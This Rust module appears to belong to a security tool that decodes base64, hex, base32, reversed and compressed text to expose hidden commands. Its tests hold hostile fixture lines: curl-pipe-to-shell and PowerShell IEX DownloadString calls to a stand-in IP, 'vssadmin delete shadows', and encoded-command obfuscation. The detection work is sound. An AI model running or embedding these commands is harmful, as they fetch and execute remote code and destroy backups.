//! Text hidden in base64 or hexadecimal: PowerShell's encoded commands, payloads piped through a decoder, compressed scripts.

use super::note::{Note, Notes};
use crate::reading::{FIELD_LIMIT, decompressed, from_base32, is_base32};
use base64::Engine as _;
use base64::alphabet;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};

/// Padding and trailing bits are as sloppy in the wild as decoders allow.
const LENIENT: GeneralPurpose = GeneralPurpose::new(
    &alphabet::STANDARD,
    GeneralPurposeConfig::new()
        .with_decode_padding_mode(DecodePaddingMode::Indifferent)
        .with_decode_allow_trailing_bits(true),
);
/// Shorter runs of base64 characters are words.
const SHORTEST_RUN: usize = 20;
/// At most this many runs of one text are tried.
const MOST_RUNS: usize = 16;
/// An encoded command may contain another.
const DEPTH: usize = 2;

/// What base64 runs in `text` say, joined with spaces: only those that decode to readable text. `None` if there are none.
///
/// Time and output are bounded: at most [`MOST_RUNS`] runs per text, [`DEPTH`] levels, [`FIELD_LIMIT`] bytes, also of what
/// is decompressed.
pub(super) fn decoded(text: &str, notes: &mut Notes) -> Option<String> {
    let mut out = String::new();
    decode_into(text, DEPTH, &mut out, notes);
    notes.add_if(!out.is_empty(), Note::Base64);
    (!out.is_empty()).then_some(out)
}

fn decode_into(text: &str, depth: usize, out: &mut String, notes: &mut Notes) {
    let mut hints = Hints::of(text);
    // The letter is in few texts.
    let has_x = memchr::memchr(b'x', text.as_bytes()).is_some();
    let may_be = |word: &str| has_x && memchr::memmem::find(text.as_bytes(), word.as_bytes()).is_some();
    let spaced = if may_be("xxd") || may_be("hex") { spaced_hexadecimal(text) } else { None };
    for run in spaced.as_deref().into_iter().chain(runs(text)).take(MOST_RUNS) {
        let Some(found) = readable(run, &mut hints, notes) else { continue };
        let room = (FIELD_LIMIT - 1).saturating_sub(out.len());
        out.push_str(&found[..found.floor_char_boundary(room)]);
        if found.len() > room {
            return;
        }
        out.push(' ');
        if depth > 1 {
            decode_into(&found, depth - 1, out, notes);
        }
    }
}

/// Bytes in hexadecimal with a space between each, as dumps are written, as one run.
fn spaced_hexadecimal(text: &str) -> Option<String> {
    let digits = |word: &str| word.len() == 2 && word.bytes().all(|byte| byte.is_ascii_hexdigit());
    let mut run = String::new();
    for word in text.split([' ', '\'', '"']) {
        if digits(word) {
            run.push_str(word);
        } else if run.len() >= SHORTEST_RUN {
            break;
        } else {
            run.clear();
        }
    }
    (run.len() >= SHORTEST_RUN).then_some(run)
}

fn runs(text: &str) -> impl Iterator<Item = &str> {
    let bytes = text.as_bytes();
    let mut at = 0;
    std::iter::from_fn(move || {
        // A run that is long enough has one of every so many bytes: the others need not be looked at.
        while let Some(byte) = bytes.get(at + SHORTEST_RUN - 1) {
            if !belongs(byte) {
                at += SHORTEST_RUN;
                continue;
            }
            let before = bytes[at..at + SHORTEST_RUN].iter().rposition(|byte| !belongs(byte));
            if let Some(before) = before {
                at += before + 1;
                continue;
            }
            let length = bytes[at..].iter().position(|byte| !belongs(byte)).unwrap_or(bytes.len() - at);
            let run = &text[at..at + length];
            at += length;
            return Some(run);
        }
        None
    })
}

/// Whether a character may be part of base64.
fn belongs(byte: &u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/')
}

/// What the text around a run says about it. Looked for only where it matters, and once.
struct Hints<'t> {
    text: &'t str,
    turned: Option<bool>,
    hexadecimal: Option<bool>,
    base32: Option<bool>,
}

impl<'t> Hints<'t> {
    const fn of(text: &'t str) -> Self {
        Self { text, turned: None, hexadecimal: None, base32: None }
    }

    /// Whether a run may be turned round.
    fn turned(&mut self) -> bool {
        let text = self.text;
        *self.turned.get_or_insert_with(|| has_one(text, &["rev", "[-1.."]))
    }

    /// Whether a run may be hexadecimal.
    fn hexadecimal(&mut self) -> bool {
        let text = self.text;
        *self.hexadecimal.get_or_insert_with(|| has_one(text, &["xxd", "hex", "unpack", "0x", "convert"]))
    }

    /// Whether a run may be base32.
    fn base32(&mut self) -> bool {
        let text = self.text;
        *self.base32.get_or_insert_with(|| has_one(text, &["base32", "b32"]))
    }
}

fn has_one(text: &str, words: &[&str]) -> bool {
    let lower = text.to_ascii_lowercase();
    words.iter().any(|word| lower.contains(word))
}

/// The text that `run` encodes.
fn readable(run: &str, hints: &mut Hints<'_>, notes: &mut Notes) -> Option<String> {
    if run.len().is_multiple_of(2)
        && run.bytes().all(|byte| byte.is_ascii_hexdigit())
        && hints.hexadecimal()
        && let Some(text) = hex::decode(run).ok().and_then(|bytes| text_of(&bytes))
    {
        return Some(text);
    }
    if is_base32(run)
        && hints.base32()
        && let Some(text) = text_of(&from_base32(run))
    {
        return Some(text);
    }
    let straight = from_base64(run, notes);
    if straight.is_some() || !hints.turned() {
        return straight;
    }
    from_base64(&run.chars().rev().collect::<String>(), notes)
}

/// Words and paths look like base64 too, but do not decode to readable text, so a readable result is proof enough.
fn from_base64(run: &str, notes: &mut Notes) -> Option<String> {
    let whole = if run.len() % 4 == 1 { &run[..run.len() - 1] } else { run };
    let bytes = LENIENT.decode(whole).ok()?;
    text_of(&bytes).or_else(|| {
        let text = text_of(&decompressed(&bytes)?)?;
        notes.add(Note::Gzip);
        Some(text)
    })
}

/// `bytes` as UTF-16 of either order or as ASCII, if they are readable.
fn text_of(bytes: &[u8]) -> Option<String> {
    // Of Latin text every other byte is zero.
    let zeros = |first: usize| bytes.iter().skip(first).step_by(2).filter(|byte| **byte == 0).count();
    let wide = |first: usize| bytes.len() >= 8 && zeros(first) * 10 >= bytes.len() / 2 * 8;
    let order: Option<fn([u8; 2]) -> u16> = match () {
        () if wide(1) => Some(u16::from_le_bytes),
        () if wide(0) => Some(u16::from_be_bytes),
        () => None,
    };
    if let Some(order) = order {
        let units = bytes.chunks_exact(2).map(|pair| order([pair[0], pair[1]]));
        let text: String = char::decode_utf16(units).map(|c| c.unwrap_or(' ')).collect();
        let readable = text.chars().filter(|c| matches!(c, ' '..='~' | '\t' | '\r' | '\n')).count();
        return (readable * 10 >= text.chars().count() * 8).then_some(text);
    }
    let printable = bytes.iter().all(|b| matches!(b, b' '..=b'~' | b'\t' | b'\r' | b'\n'));
    (printable && bytes.len() >= 12).then(|| String::from_utf8_lossy(bytes).into_owned())
}

#[cfg(test)]
mod tests {
    use super::*;
    use base64::prelude::BASE64_STANDARD;
    use miniz_oxide::deflate::{compress_to_vec, compress_to_vec_zlib};

    fn utf16(text: &str) -> String {
        BASE64_STANDARD.encode(text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>())
    }

    fn read(text: &str) -> Option<String> {
        decoded(text, &mut Notes::default())
    }

    #[test]
    fn powershells_utf16_and_the_shells_ascii_are_read() {
        let text = format!("powershell -enc {}", utf16("Invoke-Expression $x"));
        assert_eq!(read(&text).as_deref(), Some("Invoke-Expression $x "));
        let text = format!("echo {} | base64 -d | sh", BASE64_STANDARD.encode("curl http://203.0.113.5/x | sh"));
        assert_eq!(read(&text).as_deref(), Some("curl http://203.0.113.5/x | sh "));
    }

    #[test]
    fn one_encoding_inside_another_is_read() {
        let inner = format!("powershell -e {}", utf16("vssadmin delete shadows"));
        assert!(read(&format!("powershell -e {}", utf16(&inner))).unwrap().contains("vssadmin delete shadows"));
    }

    #[test]
    fn compressed_turned_and_hexadecimal_texts_are_read() {
        let script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/x'); IEX $y";
        let raw = compress_to_vec(script.as_bytes(), 6);
        let mut gzip = vec![0x1f, 0x8b, 8, 0b1000, 0, 0, 0, 0, 0, 3, b'a', 0];
        gzip.extend(&raw);
        for bytes in [raw, compress_to_vec_zlib(script.as_bytes(), 6), gzip] {
            let mut notes = Notes::default();
            let text = format!("[Convert]::FromBase64String('{}')", BASE64_STANDARD.encode(bytes));
            assert_eq!(decoded(&text, &mut notes).as_deref().map(str::trim), Some(script));
            assert!(notes.has(Note::Gzip) && notes.has(Note::Base64));
        }
        let turned: String = BASE64_STANDARD.encode("curl http://203.0.113.5/x | sh").chars().rev().collect();
        assert_eq!(
            read(&format!("echo {turned} | rev | base64 -d")).as_deref(),
            Some("curl http://203.0.113.5/x | sh ")
        );
        let base32 = "MN2XE3BANB2HI4B2F4XTEMBTFYYC4MJRGMXDKL3YEB6CA43I";
        assert_eq!(read(&format!("echo {base32} | base32 -d")).as_deref(), Some("curl http://203.0.113.5/x | sh "));
        assert_eq!(read(base32), None);
        let order = "curl http://203.0.113.5/x".encode_utf16().flat_map(u16::to_be_bytes).collect::<Vec<u8>>();
        assert_eq!(read(&BASE64_STANDARD.encode(order)).as_deref(), Some("curl http://203.0.113.5/x "));
        let spaced = hex::encode("curl http://203.0.113.5/x | sh")
            .as_bytes()
            .chunks(2)
            .map(|pair| String::from_utf8_lossy(pair).into_owned())
            .collect::<Vec<_>>()
            .join(" ");
        assert_eq!(read(&format!("echo {spaced} | xxd -r -p")).as_deref(), Some("curl http://203.0.113.5/x | sh "));
        let hexadecimal = hex::encode("curl http://203.0.113.5/x | sh");
        assert_eq!(
            read(&format!("echo {hexadecimal} | xxd -r -p")).as_deref(),
            Some("curl http://203.0.113.5/x | sh ")
        );
    }

    #[test]
    fn a_small_text_that_unpacks_to_a_huge_one_is_cut() {
        let bomb = BASE64_STANDARD.encode(compress_to_vec_zlib(&vec![b'a'; 8 * 1024 * 1024], 9));
        assert!(bomb.len() < FIELD_LIMIT);
        assert!(read(&bomb).is_none_or(|text| text.len() <= FIELD_LIMIT));
    }

    #[test]
    fn words_paths_and_hashes_are_not_text() {
        for text in [
            "/usr/local/share/applications/something/long/enough",
            "d41d8cd98f00b204e9800998ecf8427ed41d8cd98f00b204e9800998ecf8427e",
            "Get-ChildItem -Path InternationalizationConfigurationProvider",
        ] {
            assert_eq!(read(text), None, "{text}");
        }
    }
}
